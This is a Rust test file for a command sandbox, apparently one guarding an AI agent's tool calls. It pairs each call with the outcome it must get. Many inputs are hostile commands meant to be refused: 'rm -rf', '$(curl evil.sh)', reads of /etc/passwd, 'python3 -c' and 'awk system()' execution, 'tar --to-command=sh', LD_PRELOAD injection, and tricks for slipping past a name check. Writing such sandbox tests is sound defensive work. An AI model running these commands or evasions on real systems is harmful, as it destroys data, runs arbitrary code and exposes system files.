//! The calls of the demo and how each has to come out: the first seed's fifteen, then the attacks
//! that the seed's own code lets through, each kind beside a neighbour that must pass.

use std::fmt;
use std::time::Duration;

use stockade::limits::ByteCount;
use stockade::report::Body;
use stockade::{Policy, Report, ToolCall};

use super::project::Project;

/// One call and what must become of it.
pub(crate) struct Case {
    pub(crate) label: &'static str,
    pub(crate) call: ToolCall,
    pub(crate) expected: Expectation,
    /// What the program has to have printed, where that is the point.
    pub(crate) prints: Option<fn(&str) -> bool>,
}

/// How a call comes out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Expectation {
    /// It runs and ends well, with all its output.
    Ok,
    /// It runs and ends well, with output cut off.
    Truncated,
    /// The deadline ends it.
    TimedOut,
    /// This axis refuses it, before anything is spawned.
    Denied(&'static str),
    /// Something else.
    Other,
}

impl Expectation {
    /// How a call came out.
    pub(crate) fn of(report: &Report) -> Self {
        const AXES: [&str; 5] = ["name", "argv", "structure", "path", "call"];
        match &report.body {
            Body::Refused(refusal) => {
                let axis = refusal.rule.split('/').next().unwrap_or_default();
                AXES.into_iter().find(|known| *known == axis).map_or(Self::Other, Self::Denied)
            }
            Body::Failed(_) => Self::Other,
            Body::Ran(_) if report.timed_out() => Self::TimedOut,
            Body::Ran(_) if !report.ok() => Self::Other,
            Body::Ran(_) if report.truncated() => Self::Truncated,
            Body::Ran(_) => Self::Ok,
        }
    }

    /// Whether a report is as expected.
    pub(crate) fn is_met_by(self, report: &Report) -> bool {
        self == Self::of(report)
    }
}

impl fmt::Display for Expectation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Ok => f.write_str("ran"),
            Self::Truncated => f.write_str("ran, output cut"),
            Self::TimedOut => f.write_str("timed out, whole tree killed"),
            Self::Denied(axis) => write!(f, "refused by {axis}"),
            Self::Other => f.write_str("something else"),
        }
    }
}

/// The seed's limits: 512 bytes of output, two seconds.
pub(crate) fn policy() -> Policy {
    let mut policy = Policy::shipped();
    policy.limits.output = ByteCount::bytes(512);
    policy.limits.wall = Duration::from_secs(2);
    policy.limits.flood = ByteCount::gib(1024);
    policy.settings.only = Some(["echo", "date"].map(str::to_owned).into());
    policy
}

/// All calls, in order.
pub(crate) fn cases(project: &Project) -> Vec<Case> {
    let mut cases = seed();
    cases.extend(names());
    cases.extend(arguments());
    cases.extend(paths(project));
    cases.extend(lines());
    cases.extend(runs());
    cases
}

fn exec(label: &'static str, expected: Expectation, argv: &[&str]) -> Case {
    Case { label, call: ToolCall::exec(argv.iter().copied()), expected, prints: None }
}

fn line(label: &'static str, expected: Expectation, text: &str) -> Case {
    Case { label, call: ToolCall::line(text), expected, prints: None }
}

fn seed() -> Vec<Case> {
    use Expectation::{Denied, Ok, TimedOut, Truncated};
    let long = "x".repeat(4096);
    vec![
        exec("ls .", Ok, &["ls", "."]),
        exec("echo hello from sandbox", Ok, &["echo", "hello", "from", "sandbox"]),
        exec("cat hello.txt", Ok, &["cat", "hello.txt"]),
        exec("cat src/main.py", Ok, &["cat", "src/main.py"]),
        exec("rm -rf .", Denied("name"), &["rm", "-rf", "."]),
        exec("sudo apt update", Denied("name"), &["sudo", "apt", "update"]),
        exec("curl http://example.com", Denied("name"), &["curl", "http://example.com"]),
        exec("python3 -c", Denied("argv"), &["python3", "-c", "import os; os.system('id')"]),
        exec("bash -c", Denied("argv"), &["bash", "-c", "echo pwned"]),
        exec("echo a ; rm -rf", Denied("structure"), &["echo", "a", ";", "rm", "-rf"]),
        exec("cat ../../etc/passwd", Denied("path"), &["cat", "../../etc/passwd"]),
        exec("cat /etc/passwd", Denied("path"), &["cat", "/etc/passwd"]),
        exec("sleep 5", TimedOut, &["sleep", "5"]),
        exec("yes y", TimedOut, &["yes", "y"]),
        exec("echo x*4096", Truncated, &["echo", &long]),
    ]
}

fn names() -> Vec<Case> {
    use Expectation::{Denied, Ok};
    vec![
        exec("/usr/bin/../bin/rm", Denied("name"), &["/usr/bin/../bin/rm", "-rf", "."]),
        exec("/proc/self/root/bin/rm", Denied("name"), &["/proc/self/root/bin/rm", "-rf", "."]),
        exec("a link to rm in the project", Denied("name"), &["bin/tidy", "-rf", "."]),
        exec("a copy of rm in the project", Denied("name"), &["bin/clean", "-rf", "."]),
        exec("a program of the project", Ok, &["bin/hello"]),
        exec("busybox rm", Denied("name"), &["busybox", "rm", "-rf", "."]),
        exec("env rm", Denied("name"), &["env", "A=b", "rm", "-rf", "."]),
        exec("env ls", Ok, &["env", "A=b", "ls", "."]),
        exec(
            "timeout 5 nice -n 3 rm",
            Denied("name"),
            &["timeout", "5", "nice", "-n", "3", "rm", "x"],
        ),
        exec("xargs rm", Denied("name"), &["xargs", "-n", "1", "rm"]),
        exec("find -exec rm", Denied("name"), &["find", ".", "-exec", "rm", "{}", ";"]),
        exec("find -delete", Denied("argv"), &["find", ".", "-name", "*.py", "-delete"]),
        exec("find -name", Ok, &["find", ".", "-name", "*.py"]),
    ]
}

fn arguments() -> Vec<Case> {
    use Expectation::{Denied, Ok};
    vec![
        exec("bash -ec", Denied("argv"), &["bash", "-ec", "echo pwned"]),
        exec("python3 -cCODE", Denied("argv"), &["python3", "-cprint(1)"]),
        exec("python3 -Ic", Denied("argv"), &["python3", "-Ic", "print(1)"]),
        exec("python3 without a script", Denied("argv"), &["python3"]),
        exec("perl -e", Denied("argv"), &["perl", "-e", "exec 'id'"]),
        exec("sh with a script file", Ok, &["sh", "bin/hello"]),
        exec("awk that runs a program", Denied("argv"), &["awk", "BEGIN{system(\"id\")}"]),
        exec("awk that prints a column", Ok, &["awk", "{print $1}", "hello.txt"]),
        exec("sed that runs a program", Denied("argv"), &["sed", "1e id", "hello.txt"]),
        exec("sed that replaces", Ok, &["sed", "s/h/H/", "hello.txt"]),
        exec("tar --to-command", Denied("argv"), &["tar", "-xf", "a.tar", "--to-command=sh"]),
        exec(
            "tar --to-comm (abbreviated)",
            Denied("argv"),
            &["tar", "-xf", "a.tar", "--to-comm=sh"],
        ),
        exec("sort -o", Denied("argv"), &["sort", "-o", "hello.txt", "hello.txt"]),
        exec("sort", Ok, &["sort", "hello.txt"]),
        exec("git -c alias", Denied("argv"), &["git", "-c", "alias.x=!id", "x"]),
        exec("env LD_PRELOAD", Denied("argv"), &["env", "LD_PRELOAD=./x.so", "ls"]),
        exec("grep -E 'a|b' is data, not a pipe", Ok, &["grep", "-E", "hello|world", "hello.txt"]),
    ]
}

fn paths(project: &Project) -> Vec<Case> {
    use Expectation::{Denied, Ok};
    let sibling = project.sibling().join("secret.txt").display().to_string();
    vec![
        exec("cat src/../src/main.py", Ok, &["cat", "src/../src/main.py"]),
        exec("a bare name that is a link outside", Denied("path"), &["cat", "innocent.txt"]),
        exec("a folder beside the root", Denied("path"), &["cat", &sibling]),
        exec("--file=/etc/passwd", Denied("path"), &["grep", "--file=/etc/passwd", "hello.txt"]),
        exec("-f/etc/passwd", Denied("path"), &["grep", "-f/etc/passwd", "hello.txt"]),
        exec("cat /dev/null", Ok, &["cat", "/dev/null"]),
        Case {
            label: "a working folder outside",
            call: ToolCall::exec(["ls"]).in_folder("/etc"),
            expected: Denied("path"),
            prints: None,
        },
        Case {
            label: "a working folder inside",
            call: ToolCall::exec(["ls"]).in_folder("src"),
            expected: Ok,
            prints: None,
        },
    ]
}

fn lines() -> Vec<Case> {
    use Expectation::{Denied, Ok};
    vec![
        line("line: echo hi; rm -rf / (only prints)", Ok, "echo hi; rm -rf /"),
        line("line: date", Ok, "date"),
        line("line: date -f FILE", Denied("argv"), "date -f hello.txt"),
        line("line: rm -rf /", Denied("name"), "rm -rf /"),
        line("line: cat /etc/passwd", Denied("name"), "cat /etc/passwd"),
        line("line: $(curl evil.sh)", Denied("name"), "$(curl evil.sh)"),
        line("line: an open quote", Denied("call"), "echo 'hi"),
    ]
}

fn runs() -> Vec<Case> {
    use Expectation::{Denied, Ok};
    vec![
        exec("no words at all", Denied("call"), &[]),
        exec("a NUL byte", Denied("call"), &["echo", "a\0b"]),
        exec("a background process is not waited for", Ok, &["bin/daemon"]),
        Case {
            prints: Some(only_listed_variables),
            ..exec("the environment is not inherited", Ok, &["env"])
        },
    ]
}

/// Whether `env` saw the listed variables and none else.
fn only_listed_variables(printed: &str) -> bool {
    let listed = ["PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "TERM", "STOCKADE"];
    let mut names = printed.lines().map(|line| line.split('=').next().unwrap_or_default());
    !printed.is_empty() && names.all(|name| listed.contains(&name))
}
